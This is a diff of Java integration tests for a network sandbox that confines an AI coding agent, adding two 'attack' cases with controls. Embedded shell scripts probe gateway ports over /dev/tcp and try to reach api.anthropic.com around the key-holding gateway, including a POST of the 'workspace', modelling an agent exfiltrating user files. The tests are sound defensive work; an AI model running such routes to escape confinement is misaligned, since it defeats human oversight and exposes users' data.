@@ -4,6 +4,7 @@ import dev.claudecage.net.AuditEvent;
 import dev.claudecage.net.AuditLog;
 import dev.claudecage.host.Netns;
 import dev.claudecage.testing.TestNetwork;
+import dev.claudecage.testing.TlsClientHello;
 import dev.claudecage.testing.mockapi.MockAnthropicApi;
 import dev.claudecage.testing.mockapi.Script;
 import dev.claudecage.testing.mockapi.Turn;
@@ -210,6 +211,123 @@ class FilteredNetworkIT {
         assertFalse(canary.takeHits().isEmpty(), "positive control: the allowed request must reach the canary");
         assertTrue(AuditLog.read(audit).stream().anyMatch(e -> e.source().equals("proxy")
                 && "canary.test".equals(e.destination()) && e.decision().equals(AuditEvent.ALLOWED)));
+    }
+
+    /** Prints the cage's gateway addresses (IPv4, IPv6), waits for a line on stdin, then tries the gateway ports. */
+    private static final String GATEWAY_PORTS_SCRIPT = "gw6=${NO_PROXY##*,}\n"
+            + "gw4=${HTTPS_PROXY#http://}; gw4=${gw4%:*}\n"
+            + "echo \"$gw4 $gw6\"; read go\n"
+            + "for a in $gw4 $gw6; do for p in 8080 8081; do (exec 3<>/dev/tcp/$a/$p) 2>/dev/null"
+            + " && echo REACHED $a:$p || echo closed $a:$p; done; done\nexit 0";
+
+    /**
+     * Attack 6: the firewalls opened the git gateway's port (and the API gateway's) whether or not it ran, so a
+     * host service listening there was the cage's to reach. Without a key and without git_credentials neither
+     * gateway runs; a canary of the test's listens on both ports of both gateway addresses and hears nothing.
+     */
+    @Test
+    void attack6AGatewayPortWhoseServiceDoesNotRunIsClosed() throws Exception {
+        Path audit = dir.resolve("audit.jsonl");
+        Process launcher = CageHarness.start(filtered(audit, List.of(), GATEWAY_PORTS_SCRIPT),
+                Map.of("ANTHROPIC_API_KEY", ""));
+        CageHarness.Result result;
+        try {
+            String[] gateway = new BufferedReader(new InputStreamReader(launcher.getInputStream())).readLine()
+                    .split(" ");
+            try (Canary hostService = Canary.open(List.of(gateway[0], gateway[1]), List.of(8080, 8081), List.of())) {
+                result = CageHarness.waitFor(launcher, "go\n", Duration.ofMinutes(2));
+                System.out.println(result);
+                Thread.sleep(300);
+                assertEquals(List.of(), hostService.takeHits(), "a service on an idle gateway port was reached");
+            }
+        } finally {
+            launcher.destroy();
+            assertTrue(launcher.waitFor(30, TimeUnit.SECONDS));
+        }
+        assertEquals(0, result.exitCode(), result.toString());
+        assertEquals(4, result.stdout().lines().filter(line -> line.startsWith("closed ")).count(), result.stdout());
+        assertFalse(result.stdout().contains("REACHED"), result.stdout());
+        assertTrue(AuditLog.read(audit).stream().anyMatch(e -> e.source().equals("firewall")
+                && Integer.valueOf(8081).equals(e.port())), Files.readString(audit));
+    }
+
+    /** The control for attack 6: with the key and a git credential both gateways run, and the same tries reach them. */
+    @Test
+    void attack6ControlWithTheirServicesRunningTheGatewayPortsAnswer() throws Exception {
+        List<String> gitGateway = List.of("--allowed-host", "githost.test", "--git-credential",
+                "githost.test=command:printf unused");
+        CageHarness.Result result = CageHarness.launch(filtered(dir.resolve("audit.jsonl"), gitGateway,
+                GATEWAY_PORTS_SCRIPT), "go\n", Map.of("ANTHROPIC_API_KEY", REAL_KEY), Duration.ofMinutes(2));
+        System.out.println(result);
+        assertEquals(0, result.exitCode(), result.toString());
+        assertEquals(4, result.stdout().lines().filter(line -> line.startsWith("REACHED ")).count(), result.stdout());
+    }
+
+    /** Tries the API's host by every route the cage has: the explicit proxy, then, without it, by name on 80 and 443. */
+    private static String apiRoutesScript() throws Exception {
+        StringBuilder hello = new StringBuilder();
+        for (byte b : TlsClientHello.of("api.anthropic.com")) {
+            hello.append(String.format("\\x%02x", b & 0xff));
+        }
+        return "p=${HTTPS_PROXY#http://}; ph=${p%:*}; pp=${p##*:}\n"
+                + http("$ph", "$pp", "CONNECT api.anthropic.com:443 HTTP/1.1\\r\\nHost: api.anthropic.com:443\\r\\n\\r\\n") + "\n"
+                + http("$ph", "$pp", "CONNECT api.anthropic.com:" + API_PORT + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n") + "\n"
+                + http("$ph", "$pp", "POST http://api.anthropic.com/v1/files HTTP/1.1\\r\\nHost: api.anthropic.com\\r\\n"
+                        + "Content-Length: 9\\r\\n\\r\\nworkspace") + "\n"
+                + "echo \"DNS $(getent ahostsv4 api.anthropic.com | head -1 | cut -d' ' -f1) $ph\"\n"
+                + "unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy\n"
+                + http("api.anthropic.com", "80", "POST /v1/files HTTP/1.1\\r\\nHost: api.anthropic.com\\r\\n"
+                        + "Content-Length: 9\\r\\n\\r\\nworkspace") + "\n"
+                + "exec 3<>/dev/tcp/api.anthropic.com/443 && printf '" + hello + "' >&3"
+                + " && echo \"TLS$(timeout 10 head -c 7 <&3 | od -An -tu1 | tr -s ' ')\"\n"
+                + "exit 0";
+    }
+
+    /**
+     * Attack 7: with the API gateway holding the user's key, the proxy still let the cage reach api.anthropic.com,
+     * where an agent with a key of its own could upload the workspace to another account. The name is allowed and
+     * pinned to the test's canary, so every route that got through would reach it: none does, each refusal is
+     * audited with the reason, and the name resolves to the gateway.
+     */
+    @Test
+    void attack7TheAgentCannotReachAnthropicPastTheGateway() throws Exception {
+        Path audit = dir.resolve("audit.jsonl");
+        CageHarness.Result result = runFiltered(audit, apiPinnedToTheCanary(), apiRoutesScript());
+        assertEquals(0, result.exitCode(), result.toString());
+        Thread.sleep(500);
+        assertEquals(List.of(), canary.takeHits(), "the API's stand-in was reached past the gateway");
+        assertEquals(4, result.stdout().lines().filter(line -> line.startsWith("HTTP/1.1 403")).count(), result.stdout());
+        assertTrue(result.stdout().contains("TLS 21 3 3 0 2 2 49"), "the TLS listener refuses by SNI: " + result.stdout());
+        String dns = result.stdout().lines().filter(line -> line.startsWith("DNS ")).findFirst().orElseThrow();
+        assertEquals(dns.split(" ")[2], dns.split(" ")[1], "api.anthropic.com resolves to the gateway: " + dns);
+        List<AuditEvent> events = AuditLog.read(audit);
+        String reason = "the API gateway holds your key: api.anthropic.com only through it";
+        assertEquals(5, events.stream().filter(e -> e.source().equals("proxy") && e.decision().equals(AuditEvent.DENIED)
+                && reason.equals(e.reason())).count(), events.toString());
+        assertTrue(events.stream().anyMatch(e -> e.source().equals("dns") && "api.anthropic.com".equals(e.destination())
+                && e.reason().contains(reason)), events.toString());
+        assertFalse(result.stderr().contains("no API key on the host"), result.stderr());
+    }
+
+    /** The control for attack 7: without a key on the host no gateway runs, the same route is open, and run says so. */
+    @Test
+    void attack7ControlWithoutAKeyTheApiIsReachableAndRunWarns() throws Exception {
+        Path audit = dir.resolve("audit.jsonl");
+        CageHarness.Result result = CageHarness.launch(filtered(audit, apiPinnedToTheCanary(), apiRoutesScript()), "",
+                Map.of("ANTHROPIC_API_KEY", ""), Duration.ofMinutes(2));
+        System.out.println(result);
+        assertEquals(0, result.exitCode(), result.toString());
+        Thread.sleep(500);
+        assertFalse(canary.takeHits().isEmpty(), "control: without the gateway the API's stand-in is reached");
+        assertTrue(result.stdout().contains("HTTP/1.1 200"), result.stdout());
+        assertEquals(1, result.stderr().lines().filter(line -> line.contains("warning: no API key on the host")).count(),
+                result.stderr());
+    }
+
+    private List<String> apiPinnedToTheCanary() {
+        return List.of("--resolve", "api.anthropic.com=" + canaryHost.address4(),
+                "--allowed-host", "api.anthropic.com", "--allowed-host", "api.anthropic.com:80",
+                "--allowed-host", "api.anthropic.com:" + API_PORT);
     }
 
     @Test
